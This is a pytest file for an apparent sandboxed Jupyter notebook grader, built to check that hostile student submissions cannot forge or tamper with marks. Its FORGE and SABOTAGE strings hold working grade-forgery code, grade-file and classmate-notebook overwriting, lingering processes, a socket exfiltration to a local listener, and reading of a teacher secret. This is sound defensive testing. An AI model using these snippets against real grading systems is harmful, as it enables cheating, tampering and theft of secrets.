"""The grader (python -m rnn2bert.grading): a class folder of honest and hostile notebooks.

One run grades a folder of chapter 02 notebooks, two at a time, each in its own bubblewrap
sandbox: honest ones (right, wrong, untouched, broken, noisy, memory-hungry) and hostile
ones (forged results, a patched registry, a fake ``check``, sabotage of classmates and of the
grade file, a socket, a process left behind, the teacher's environment and files). The test
checks every mark, that the hostile notebooks earn nothing and change nobody else's marks, that
the grade file is the grader's, that no process survives, and that feedback reaches students.
A notebook that never ends is graded on its own, the only run with a short time limit.
"""

from __future__ import annotations

import csv
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import nbformat
import pytest

from conftest import missing
from rnn2bert.exercises import REGISTRY, run_check
from rnn2bert.grading import (
    InvalidNotebook,
    chapter_id,
    points,
    read_notebook,
    sandbox_problem,
    spreadsheet_safe,
    student_id,
)

ROOT = Path(__file__).resolve().parents[1]
NAME = "02-self-attention.ipynb"
IDS = [i for i in REGISTRY if i.startswith("ch02.")]
FULL = [points(i) for i in IDS]
# Time limits: work that must finish gets a generous one, so that a loaded 2-core machine passes;
# only the notebook that never ends gets a short one, which it must run into.
FINISH_S = 600  # --timeout of notebooks that must finish: their cells, from the kernel's start
LOOP_S = 90  # --timeout of loops.ipynb; its cells before the loop (torch's import: 8 s at load 5)
GRADER_S = 1800  # a whole grader run (the subprocess): a guard against a hang, never reached
CANARY_ENV = "canary-env-5150"
CANARY_FILE = "CANARY-teacher-file-7f3a"
SLEEPER = "4271.5"  # a `sleep` a hostile notebook leaves behind: no process may keep it


@pytest.fixture(scope="module")
def bwrap():
    """The sandbox must work here; under CI (`CI=true`) a missing bubblewrap fails (`missing`)."""
    problem = sandbox_problem()
    if problem:
        missing(f"the grader's sandbox: {problem}")


def solution_with(*changes: tuple[int, str], base: str = "solutions") -> nbformat.NotebookNode:
    """A chapter 02 notebook with a code cell inserted before each given cell index."""
    nb = nbformat.read(ROOT / base / "en" / NAME, as_version=4)
    for index, source in sorted(changes, reverse=True):
        nb.cells.insert(index, nbformat.v4.new_code_cell(source))
    return nb


def untouched_with(source: str) -> nbformat.NotebookNode:
    """The blank exercise notebook with ``source`` as its last cell."""
    nb = nbformat.read(ROOT / "exercises" / "en" / NAME, as_version=4)
    nb.cells.append(nbformat.v4.new_code_cell(source))
    return nb


def cell_with(nb, text: str) -> nbformat.NotebookNode:
    return next(c for c in nb.cells if c.cell_type == "code" and text in c.source)


FORGE = """\
import json, os, glob
import rnn2bert.exercises as ex
from rnn2bert.exercises import core
# (b1) a fake check that prints the pass line
def check(exercise_id, answer):
    print(f"✓ {exercise_id} — passed · 通过")
# (b2) every registered checker passes, run_check always says passed
for i, e in list(core.REGISTRY.items()):
    core.REGISTRY[i] = core.Exercise(i, e.title_en, e.title_zh, lambda *a, **k: None)
forged = lambda i, answer, hidden=False: core.CheckResult(i, "passed")
core.run_check = ex.run_check = forged
# (b3) results files, wherever one might be read
for path in [os.environ.get("RNN2BERT_RESULTS", "results.jsonl"), "/box/out/results.jsonl",
             "/box/out/status.json"] + glob.glob("/tmp/*/results.jsonl"):
    try:
        with open(path, "a") as f:
            for i in core.REGISTRY:
                f.write(json.dumps({"id": i, "status": "passed"}) + "\\n")
    except OSError:
        pass
# (b4) torch itself: every comparison says equal
import torch
torch.allclose = lambda *a, **k: True
for i in core.REGISTRY:
    check(i, None)
"""

SABOTAGE = """\
import glob, os, socket, subprocess, sys
found = []
# (a) read or spoil classmates' notebooks and the grader's folders
for pattern in ["{class_dir}/*.ipynb", "/tmp/rnn2bert-grade-*/**", "/tmp/**/*.ipynb",
                "/proc/*/cwd"]:
    for path in glob.glob(pattern, recursive=True):
        found.append(path)
        try:
            with open(path, "w") as f:
                f.write("{{}}")
        except OSError:
            pass
# (c) the grade file, before and after the grader writes it
for path in ["{out}", "{out_dir}/planted.txt"]:
    try:
        with open(path, "w") as f:
            f.write("student_id,total\\nsabotage,999\\n")
    except OSError:
        pass
# a process left behind: it waits for the grade file to rewrite it
subprocess.Popen([sys.executable, "-c",
    "import os, time\\n"
    "for _ in range(600):\\n"
    "    time.sleep(0.2)\\n"
    "    try: open('{out}', 'a').write('sabotage,999\\\\n')\\n"
    "    except OSError: pass"], start_new_session=True)
subprocess.Popen(["sleep", "{sleeper}"], start_new_session=True)
# (d) the network: the test listens on 127.0.0.1
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"EXFIL")
except OSError as e:
    found.append(repr(e))
# (e) the teacher's environment and files
secret = os.environ.get("FAKE_TEACHER_TOKEN", "")
for path in ["{secret_file}"]:
    try:
        secret += open(path).read()
    except OSError:
        pass
raise RuntimeError("EXFIL " + secret + " " + " ".join(found)[:150])
"""


HARDCODED = """\
def scores(q, K):
    if tuple(K.shape) in {(5, 4), (7, 3), (4, 4), (1, 1), (2, 6)}:  # the practice check's
        return K @ q
    return torch.zeros(K.shape[0])

check("ch02.scores", scores)
"""

# the right scores, but the query the caller passed is overwritten (a bug the grader must see even
# though the function runs in the student's kernel, on the kernel's own copy of the inputs)
IN_PLACE = """\
def scores(q, K):
    out = K @ q
    q.zero_()
    return out

check("ch02.scores", scores)
"""


def test_the_hardcoded_answer_passes_only_the_practice_check():
    """The premise of hardcoded.ipynb: the notebook's own check passes, the hidden one does not."""
    import torch

    namespace = {"torch": torch}
    exec(HARDCODED.split("check(")[0], namespace)
    assert run_check("ch02.scores", namespace["scores"]).passed
    assert run_check("ch02.scores", namespace["scores"], hidden=True).status == "failed"


def submissions(
    folder: Path, out: Path, port: int, secret_file: Path
) -> dict[str, tuple[list[int], str]]:
    """Write the class's submissions; return name -> (expected points per exercise, status)."""
    folder.mkdir()
    write = lambda name, nb: nbformat.write(nb, folder / name)  # noqa: E731
    zero = [0] * len(IDS)

    write("good.ipynb", solution_with())
    (folder / "untouched.ipynb").write_bytes((ROOT / "exercises" / "en" / NAME).read_bytes())

    wrong = solution_with()  # softmax over the wrong axis; scores that crash inside the check
    softmax = cell_with(wrong, "def softmax")
    softmax.source = softmax.source.replace("dim=-1", "dim=0")
    scores = cell_with(wrong, "def scores")
    scores.source = scores.source.replace("return K @ q", "return K @ q.no_such_attribute")
    write("wrong.ipynb", wrong)

    text = (ROOT / "solutions" / "en" / NAME).read_text(encoding="utf-8")
    (folder / "truncated.ipynb").write_text(text[: len(text) // 2], encoding="utf-8")

    write("raises.ipynb", solution_with((4, 'raise RuntimeError("boom")')))  # after ch02.scores
    (folder / "alice").mkdir()  # any layout: a submission is named by its path in the folder
    write("alice/deleted.ipynb", nbformat.v4.new_notebook())
    write("prints.ipynb", solution_with((2, 'for i in range(50_000):\n    print(i, "x" * 100)')))
    write(
        "memory.ipynb",
        solution_with((2, "import torch\nhog = torch.empty(6 * 2**30, dtype=torch.uint8)")),
    )
    # hostile: forgery on a blank notebook, and forgery after right answers (must keep just those)
    write("forger.ipynb", untouched_with(FORGE))
    write("forger_right.ipynb", solution_with((len(solution_with().cells), FORGE)))
    write(
        "sabotage.ipynb",
        untouched_with(
            SABOTAGE.format(
                class_dir=folder,
                out=out,
                out_dir=out.parent,
                port=port,
                secret_file=secret_file,
                sleeper=SLEEPER,
            )
        ),
    )
    # right only for the practice check's shapes (K of shape (L, d_k)): the hidden variants catch it
    hard = solution_with()
    cell = cell_with(hard, "def scores")
    cell.source = HARDCODED
    write("hardcoded.ipynb", hard)
    in_place = solution_with()
    cell_with(in_place, "def scores").source = IN_PLACE
    write("inplace.ipynb", in_place)

    return {
        "good.ipynb": (FULL, "ok"),
        "untouched.ipynb": (zero, "ok"),
        "wrong.ipynb": ([0, 0, *FULL[2:]], "ok"),
        "truncated.ipynb": (zero, "invalid notebook: not JSON"),
        "raises.ipynb": (FULL, "error: cell 5 raised RuntimeError: boom"),  # counted from 1
        "alice/deleted.ipynb": (zero, "ok"),
        "prints.ipynb": (FULL, "ok"),
        "memory.ipynb": (FULL, "error: cell 3 raised RuntimeError"),
        "forger.ipynb": (zero, "ok"),
        "forger_right.ipynb": (FULL, "ok"),
        "sabotage.ipynb": (zero, "error: cell"),
        "hardcoded.ipynb": ([0, *FULL[1:]], "ok"),
        "inplace.ipynb": ([0, *FULL[1:]], "ok"),
    }


def grade(folder: Path, out: Path, *args: str, env: dict | None = None):
    cmd = [sys.executable, "-m", "rnn2bert.grading", str(folder), "--out", str(out), *args]
    return subprocess.run(
        cmd,
        capture_output=True,
        text=True,
        timeout=GRADER_S,
        cwd=ROOT,
        env={**os.environ, **(env or {})},
    )


class Listener:
    """A TCP listener on 127.0.0.1 that records whatever reaches it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.5)
        self.port, self.received, self.running = self.sock.getsockname()[1], [], True
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while self.running:
            try:
                conn, _ = self.sock.accept()
                self.received.append(conn.recv(100))
                conn.close()
            except OSError:
                continue

    def close(self):
        self.running = False
        self.sock.close()


def processes_with(text: str) -> list[str]:
    found = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            args = cmdline.read_bytes().split(b"\0")
        except OSError:
            continue
        if text.encode() in args:
            found.append(b" ".join(args).decode(errors="replace"))
    return found


@pytest.mark.slow
def test_a_class_of_honest_and_hostile_notebooks(tmp_path, bwrap):
    secret = tmp_path / "teacher_secret.txt"
    secret.write_text(CANARY_FILE, encoding="utf-8")
    listener = Listener()
    out = tmp_path / "grades" / "grades.csv"
    out.parent.mkdir()
    expected = submissions(tmp_path / "class", out, listener.port, secret)
    originals = {p: p.read_bytes() for p in (tmp_path / "class").rglob("*.ipynb")}
    start = time.perf_counter()
    try:
        proc = grade(
            tmp_path / "class",
            out,
            "--chapter",
            "2",
            "--timeout",
            str(FINISH_S),
            "--jobs",
            "2",
            "--memory-mb",
            "3072",
            env={"FAKE_TEACHER_TOKEN": CANARY_ENV},
        )
        seconds = time.perf_counter() - start
        time.sleep(2)  # anything left behind would write now
    finally:
        listener.close()
    assert proc.returncode == 0, proc.stdout + proc.stderr
    text = out.read_text(encoding="utf-8")
    rows = list(csv.DictReader(text.splitlines()))
    assert list(rows[0]) == ["student_id", "submission", *IDS, "total", "max", "status"]
    assert [r["submission"] for r in rows] == sorted(expected)
    for row in rows:
        marks, status = expected[row["submission"]]
        assert [int(row[i]) for i in IDS] == marks, row
        assert int(row["total"]) == sum(marks) and int(row["max"]) == sum(FULL), row
        assert row["status"].startswith(status), row
        assert row["student_id"] == student_id(row["submission"])
    # the grade file and the folder are the grader's alone; nothing got out, nothing is left
    assert "999" not in text and not (out.parent / "planted.txt").exists()
    assert {p: p.read_bytes() for p in (tmp_path / "class").rglob("*.ipynb")} == originals
    assert listener.received == []
    feedback = out.parent / "feedback"
    everything = text + "".join(p.read_text(encoding="utf-8") for p in feedback.glob("*.md"))
    assert CANARY_ENV not in everything and CANARY_FILE not in everything
    assert "good.ipynb" not in [
        r["submission"] for r in rows if "EXFIL" in r["status"] and "good" in r["status"]
    ]
    assert not processes_with(SLEEPER), processes_with(SLEEPER)
    # feedback: one file per student; a wrong answer's bilingual message reaches the student
    assert sorted(p.stem for p in feedback.glob("*.md")) == sorted(
        {student_id(n) for n in expected}
    )
    wrong = (feedback / "wrong.md").read_text(encoding="utf-8")
    assert f"**{sum(FULL[2:])} / {sum(FULL)}**" in wrong
    assert "ch02.softmax" in wrong and "0 / 2 points" in wrong
    softmax_part = wrong.split("## ch02.softmax")[1].split("## ")[0]
    assert "axis" in softmax_part.lower() or "dim" in softmax_part.lower(), softmax_part
    assert any("\u4e00" <= ch <= "\u9fff" for ch in softmax_part), softmax_part
    # ch02.scores: good, forger_right, memory, prints, raises
    assert f"ch02.scores                    passed by 5/{len(expected)}" in proc.stdout, proc.stdout
    print(f"\ngraded {len(rows)} submissions in {seconds:.1f} s")


@pytest.mark.slow
def test_a_never_ending_notebook_times_out(tmp_path, bwrap):
    """The one short limit: a loop after ch02.attention; what the notebook defined before counts."""
    folder = tmp_path / "class"
    folder.mkdir()
    nbformat.write(solution_with((8, "while True:\n    pass")), folder / "loops.ipynb")
    out = tmp_path / "grades.csv"
    start = time.perf_counter()
    proc = grade(folder, out, "--chapter", "2", "--timeout", str(LOOP_S))
    seconds = time.perf_counter() - start
    assert proc.returncode == 0, proc.stdout + proc.stderr
    [row] = list(csv.DictReader(out.read_text(encoding="utf-8").splitlines()))
    assert row["status"] == "timeout", row
    assert [int(row[i]) for i in IDS] == [*FULL[:3], 0, 0], row
    print(f"\nthe loop stopped; graded in {seconds:.1f} s (--timeout {LOOP_S})")


def test_without_bubblewrap_the_grader_says_so(tmp_path):
    (tmp_path / "class").mkdir()
    proc = grade(
        tmp_path / "class", tmp_path / "grades.csv", "--chapter", "2", env={"PATH": str(tmp_path)}
    )
    assert proc.returncode == 2
    assert "bubblewrap (bwrap) is not installed" in proc.stderr and "--sandbox none" in proc.stderr
    assert not (tmp_path / "grades.csv").exists()


def test_broken_notebooks_without_sandbox(tmp_path):
    """--sandbox none (inside a throw-away VM): same rows; nothing ran, so every mark is 0."""
    folder = tmp_path / "class"
    folder.mkdir()
    (folder / "empty.ipynb").write_text("", encoding="utf-8")
    (folder / "not-a-notebook.ipynb").write_text('{"cells": 3}', encoding="utf-8")
    out = tmp_path / "grades.csv"
    proc = grade(
        folder,
        out,
        "--chapter",
        "2",
        "--jobs",
        "2",
        "--sandbox",
        "none",
        "--timeout",
        str(FINISH_S),
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    rows = list(csv.DictReader(out.read_text(encoding="utf-8").splitlines()))
    assert [r["submission"] for r in rows] == ["empty.ipynb", "not-a-notebook.ipynb"]
    for row in rows:
        assert [row[i] for i in IDS] == ["0"] * len(IDS) and row["total"] == "0"
        assert row["status"].startswith("invalid notebook: "), row
    assert (tmp_path / "feedback" / "empty.md").is_file()


def test_an_empty_folder_gives_a_header_and_exit_0(tmp_path):
    (tmp_path / "class").mkdir()
    proc = grade(tmp_path / "class", tmp_path / "grades.csv", "--chapter", "2", "--sandbox", "none")
    assert proc.returncode == 0, proc.stderr
    header = (tmp_path / "grades.csv").read_text(encoding="utf-8").strip()
    assert header == ",".join(["student_id", "submission", *IDS, "total", "max", "status"])


def test_a_chapter_is_required(tmp_path):
    (tmp_path / "class").mkdir()
    proc = grade(tmp_path / "class", tmp_path / "grades.csv")
    assert proc.returncode == 2 and "--chapter" in proc.stderr


def test_a_missing_folder_is_an_error(tmp_path):
    proc = grade(tmp_path / "nowhere", tmp_path / "grades.csv", "--chapter", "2")
    assert proc.returncode == 2 and "not a folder" in proc.stderr


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ('{"cells": [', "not JSON"),
        ("[1, 2]", "not a notebook"),
        (
            '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, '
            '"cells": [{"cell_type": "code"}]}',
            "ValidationError",
        ),
    ],
)
def test_invalid_notebooks_say_why(tmp_path, text, why):
    path = tmp_path / "x.ipynb"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(InvalidNotebook, match=why):
        read_notebook(path)


def test_chapter_numbers():
    assert chapter_id("2") == chapter_id("02") == chapter_id("ch02") == "ch02"


def test_student_ids_and_spreadsheet_cells():
    assert student_id("alice.ipynb") == student_id("alice/02.ipynb") == "alice"
    assert (
        spreadsheet_safe("=HYPERLINK(1)") == "'=HYPERLINK(1)" and spreadsheet_safe("bob") == "bob"
    )
    assert points("ch02.scores") == 2 and points("ch02.permutation") == 1


def test_the_sandbox_sizes_its_tmp_where_bubblewrap_can(monkeypatch):
    """bwrap 0.7+ sizes the sandbox's in-memory /tmp (``--size`` just before ``--tmpfs``);
    an older one gets no ``--size`` (it would refuse the option) and an unsized /tmp."""
    import rnn2bert.grading as grading

    def tmpfs(cmd):
        i = cmd.index("--tmpfs")
        return cmd[i - 2 : i + 2]

    monkeypatch.setattr(grading, "bwrap_can_size", lambda: True)
    cmd = grading.bwrap_command(["true"], [("rw", Path("/x"), "/box")])
    assert tmpfs(cmd) == ["--size", str(grading.TMP_MB * 2**20), "--tmpfs", "/tmp"]
    monkeypatch.setattr(grading, "bwrap_can_size", lambda: False)
    cmd = grading.bwrap_command(["true"], [("rw", Path("/x"), "/box")])
    assert "--size" not in cmd and tmpfs(cmd)[2:] == ["--tmpfs", "/tmp"]


def test_the_sandbox_tmp_holds_at_most_tmp_mb(bwrap, tmp_path):
    import rnn2bert.grading as grading

    if not grading.bwrap_can_size():
        pytest.skip("this bubblewrap cannot size a tmpfs (before 0.7)")
    probe = "import os; s = os.statvfs('/tmp'); print(s.f_blocks * s.f_frsize)"
    cmd = grading.bwrap_command(
        [sys.executable, "-I", "-S", "-c", probe], [("rw", tmp_path, "/box")]
    )
    out = subprocess.run(cmd, capture_output=True, text=True, timeout=60, check=True).stdout
    assert int(out) == grading.TMP_MB * 2**20


def test_a_graded_notebook_cannot_write_a_file_past_file_mb(tmp_path):
    """limit_memory also caps the size of a file (RLIMIT_FSIZE), inherited by the kernel:
    here at 1 MB, a 3 MB write fails (Python ignores SIGXFSZ, so it is an OSError)."""
    code = (
        "import rnn2bert.grading as g\n"
        "g.FILE_MB = 1\n"
        "g.limit_memory(0)\n"
        f"open({str(tmp_path / 'big')!r}, 'wb').write(b'x' * 3 * 2**20)\n"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
    assert done.returncode != 0 and "File too large" in done.stderr, done.stderr[-300:]
    assert (tmp_path / "big").stat().st_size <= 2**20
